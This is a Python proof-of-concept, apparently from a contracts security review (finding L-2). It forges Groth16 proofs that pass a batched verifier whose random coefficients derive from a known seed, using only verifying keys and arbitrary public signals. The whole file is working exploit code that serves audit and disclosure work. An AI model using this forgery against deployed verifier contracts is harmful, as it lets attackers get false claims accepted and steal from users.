"""The L-2 forgery: four "proofs" that satisfy the batched Groth16 equation for a known seed.

The batch checks one random linear combination of the four Groth16 equations,

    Π e(-r_i·A_i, B_i) · e((Σ r_i)·alpha, beta) · e(Σ r_i·L_i, gamma) · Π e(r_i·C_i, delta_i) = 1

with r_0 = 1 and r_i (i ≥ 1) drawn from a seed. Whoever knows the r_i before choosing
the proofs can cancel every term without knowing any witness:

* A_0 = (Σ r_i)·alpha with B_0 = beta cancels the alpha-beta pair;
* A_1 = r_1⁻¹·(Σ r_i·L_i) with B_1 = gamma cancels the gamma pair;
* every other A and every C is the point at infinity.

The public signals can be anything below the field order. Only the verifying keys are
needed (no proving key, no witness). Review contracts-2026-12, finding L-2.
"""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

from eth_abi import encode
from eth_utils import keccak
from py_ecc.optimized_bn128 import FQ, add, curve_order, multiply, normalize

from .zkapp import CIRCUITS

G1 = tuple[Any, Any, Any]
Proof = tuple[list[int], list[list[int]], list[int]]
INFINITY: G1 = (FQ(1), FQ(1), FQ(0))


def coefficients(seed: int, n: int = 4) -> list[int]:
    """r_0 = 1, r_i = (keccak256(abi.encode(seed, i)) >> 129) | 1, as Groth16Batch draws them."""
    out = [1]
    for i in range(1, n):
        digest = keccak(encode(["uint256", "uint256"], [seed, i]))
        out.append((int.from_bytes(digest, "big") >> 129) | 1)
    return out


def _g1(point: Sequence[str]) -> G1:
    return (FQ(int(point[0])), FQ(int(point[1])), FQ(1))


def _affine(point: G1) -> list[int]:
    if point[2] == FQ(0):
        return [0, 0]
    x, y = normalize(point)
    return [int(x), int(y)]


def _g2(point: Sequence[Sequence[str]]) -> list[list[int]]:
    """A snarkjs vkey G2 point [[x.c0, x.c1], [y.c0, y.c1], ...] in calldata order (c1 first)."""
    return [[int(point[0][1]), int(point[0][0])], [int(point[1][1]), int(point[1][0])]]


def load_vkeys(directory: Path) -> dict[str, dict[str, Any]]:
    return {name: json.loads((directory / f"{name}.vkey.json").read_text()) for name in CIRCUITS}


def forge(
    vkeys: Mapping[str, Mapping[str, Any]], signals: Mapping[str, Sequence[int]], seed: int
) -> dict[str, tuple[Proof, list[int]]]:
    """{circuit: (proof, signals)} that the batched equation accepts under ``seed``."""
    r = coefficients(seed, len(CIRCUITS))
    shared = vkeys[CIRCUITS[0]]
    combined = INFINITY  # Σ r_i·L_i
    for i, name in enumerate(CIRCUITS):
        ic = vkeys[name]["IC"]
        x = list(signals[name])
        assert len(ic) == len(x) + 1, name
        point = _g1(ic[0])
        for j, value in enumerate(x):
            point = add(point, multiply(_g1(ic[j + 1]), value % curve_order))
        combined = add(combined, multiply(point, r[i]))
    a0 = multiply(_g1(shared["vk_alpha_1"]), sum(r) % curve_order)
    a1 = multiply(combined, pow(r[1], -1, curve_order))
    beta, gamma = _g2(shared["vk_beta_2"]), _g2(shared["vk_gamma_2"])
    nothing = [0, 0]
    proofs: dict[str, tuple[Proof, list[int]]] = {}
    for i, name in enumerate(CIRCUITS):
        a = _affine(a0) if i == 0 else _affine(a1) if i == 1 else nothing
        b = beta if i == 0 else gamma
        proofs[name] = ((a, b, list(nothing)), list(signals[name]))
    return proofs
